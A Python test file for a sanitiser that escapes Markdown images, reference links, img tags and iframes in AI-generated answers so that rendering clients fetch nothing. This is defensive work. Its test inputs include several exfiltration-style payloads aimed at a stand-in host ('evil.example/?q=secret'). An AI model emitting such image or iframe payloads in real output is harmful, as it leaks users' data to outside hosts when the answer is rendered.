"""Whatever a model writes, a client that renders it fetches nothing by itself, and code stays as it is."""

from __future__ import annotations

import asyncio
import re
from collections.abc import AsyncGenerator, Iterator, Sequence
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token as Parsed

from search.answering.citations import Token
from search.answering.draft import Notice
from search.answering.inert_markdown import InertMarkdown, inert, inert_markdown
from search.answering.thinking import Discard

EVIL = "https://evil.example/?q=secret"
CLIENTS = [
    MarkdownIt("commonmark", {"html": True}),
    MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]),
    MarkdownIt("commonmark", {"html": False, "breaks": True}).enable("table").disable("code"),
]


def rendered(text: str) -> Iterator[Parsed]:
    """Everything that clients make of a text."""

    def all_of(tokens: Sequence[Parsed]) -> Iterator[Parsed]:
        for token in tokens:
            yield token
            yield from all_of(token.children or ())

    for client in CLIENTS:
        env: dict[str, Any] = {}
        yield from all_of(client.parse(text, env))
        assert not env.get("references"), text


def fetched(text: str) -> list[Parsed]:
    return [token for token in rendered(text) if token.type in ("image", "html_inline", "html_block")]


def streamed(text: str, size: int) -> str:
    markdown, parts = InertMarkdown(), re.findall(r"`+|.", text, re.DOTALL)
    pieces = ["".join(parts[at : at + size]) for at in range(0, len(parts), size)]
    return "".join(map(markdown.feed, pieces)) + markdown.finish()


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        (f"![a]({EVIL})", f"!\\[a]({EVIL})"),
        (f"![a][r]\n\n[r]: {EVIL}", f"!\\[a][r]\n\n[r]\\: {EVIL}"),
        (f"[![a]({EVIL})](x)", f"[!\\[a]({EVIL})](x)"),
        (f"<img src={EVIL}>", f"&lt;img src={EVIL}>"),
        (f"<!-- --><iframe src='{EVIL}'></iframe>", f"&lt;!-- -->&lt;iframe src='{EVIL}'>&lt;/iframe>"),
        (f"[1]: {EVIL}", f"[1]\\: {EVIL}"),
        (f"\\`![a]({EVIL})\\`", f"\\`!\\[a]({EVIL})\\`"),
        (f"> ```\n![a]({EVIL})", f"> ```\n!\\[a]({EVIL})"),
        (f"- `x\n- ![a]({EVIL})`", f"- `x\n- !\\[a]({EVIL})`"),
        (f"- x\n   ```\n![a]({EVIL})", f"- x\n   ```\n!\\[a]({EVIL})"),
        (f"| `a | ![a]({EVIL})` |\n|-|-|", f"| `a | !\\[a]({EVIL})` |\n|-|-|"),
        (f"    <img src={EVIL}>\n", f"    &lt;img src={EVIL}>\n"),
        ("[a`]: x`", "[a`]\\: x`"),
        ("a `\n<!-- b`", "a `\n&lt;!-- b`"),
        ("`\n  <!--\n`", "`\n  &lt;!--\n`"),
        (f"a ` b\n`![a]({EVIL}) c `", f"a ` b\n`!\\[a]({EVIL}) c `"),
    ],
)
def test_what_would_be_fetched_becomes_text(hostile: str, shown: str) -> None:
    assert inert_markdown(hostile) == shown
    assert not fetched(shown)
    assert not fetched(streamed(hostile, 1))


@pytest.mark.parametrize(
    "text",
    [
        "Use [the form](https://docs.example.org/forms) **at once**!",
        "Write `<form>` and `vec![1]` and `x[0]: int`.",
        "```html\n<img src='x'>\n![a](b)\n```\n\nDone.",
        "1. First:\n\n   ```html\n   <b>\n   ```\n2. Then.",
        "a < b, 3 <4 and x <- y!",
        "As in [1]. See [2] too: it says more.",
    ],
)
def test_what_is_code_or_harmless_stays(text: str) -> None:
    assert inert_markdown(text) == text


def test_prose_that_looks_like_a_tag_is_shown_as_it_was_written() -> None:
    for text in ("List<String> of <your-project>", "vec![1]", "[note]: this"):
        assert CLIENTS[0].render(inert_markdown(text)) == f"<p>{text.replace('<', '&lt;').replace('>', '&gt;')}</p>\n"


FRAGMENTS = st.sampled_from(
    [
        f"![a]({EVIL})", "![a][1]", "[1]: //evil.example", f"<img src={EVIL}>", "<b", "</b>", "<!--", "-->", "!", "[",
        "]", "(", ")", ":", "<", "`", "``", "```", "~~~", "\n", "\n\n", "\n    ", "\n- ", "\n  ", "\n> ", "\n1. ",
        "\n# ", "|", "\n|-|-|\n", "\\", " ", "a", "\t", "&lt;", "\n---\n", "\n===\n", "*", "$", "\n[a", "]:",
        "\u2028", "\ue000",
    ]
)  # fmt: skip


@settings(max_examples=300, deadline=None)
@given(st.lists(FRAGMENTS, min_size=1, max_size=14), st.integers(1, 9))
@example(["a ", "`", "\n\n", "`", f"![a]({EVIL})", "`"], 1)
def test_no_text_makes_a_client_fetch_anything(fragments: list[str], size: int) -> None:
    text = "".join(fragments)
    assert not fetched(inert_markdown(text))
    assert not fetched(streamed(text, size))


def test_a_block_full_of_tags_is_harmless_too() -> None:
    text = "<a" * 1000 + f"\n\n`<b>` ![a]({EVIL})"
    assert not fetched(inert_markdown(text))
    assert "`<b>`" in inert_markdown(text)


@pytest.mark.parametrize("text", ["- `<b>`\n" * 350, "- aaaaa\n" * 250 + "- `<b>`\n" * 100, "-\n" * 1400])
def test_a_long_block_is_not_parsed_again_for_each_of_its_lines(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
    parse, sizes = MarkdownIt.parse, []

    def counted(self: MarkdownIt, src: str, env: Any = None) -> list[Parsed]:
        sizes.append(len(src))
        return parse(self, src, env)

    monkeypatch.setattr(MarkdownIt, "parse", counted)
    streamed(text, 1)
    assert sum(sizes) < 60 * len(text)


def test_code_in_a_long_fence_stays_as_it_is() -> None:
    text = "So:\n\n```html\n" + "<p>Some words.</p>\n" * 300 + "```\n"
    assert streamed(text, 3) == inert_markdown(text) == text


@pytest.mark.parametrize(
    "pieces",
    [
        ("a ` b", "\n#", f"`![a]({EVIL}) `"),
        ("    ```\n", "\n```\n", f"![a]({EVIL})"),
        ("```\n```\n- a\n  ```\n", f"![a]({EVIL})"),
        ("```", f"![a]({EVIL})", " `"),
        ("~~~|\n", "---\n", f"![a]({EVIL})"),
    ],
)
def test_what_only_looks_like_the_beginning_of_a_block_makes_no_code(pieces: Sequence[str]) -> None:
    markdown = InertMarkdown()
    assert not fetched("".join(map(markdown.feed, pieces)) + markdown.finish())


def events_of(*events: Any) -> list[Any]:
    async def given_events() -> AsyncGenerator[Any, None]:
        for event in events:
            yield event

    async def gathered() -> list[Any]:
        return [event async for event in inert(given_events())]

    return asyncio.run(gathered())


def test_citations_become_no_images() -> None:
    """`![1]` would be one where [1] is defined, and `![[1]](address)` is one."""
    found = events_of(Token("Done!"), Token("[1]", 1), Token(": good"))
    assert found == [Token("Done"), Token("! "), Token("[1]", 1), Token("\\: good")]


def test_other_events_keep_their_place_and_discarded_text_is_forgotten() -> None:
    notice = Notice("cut", "The answer is cut short.")
    assert events_of(Token("```\n<b>"), Discard(), Token("<b> <"), notice) == [
        Token("```\n<b>"),
        Discard(),
        Token("&lt;b> "),
        Token("<"),
        notice,
    ]
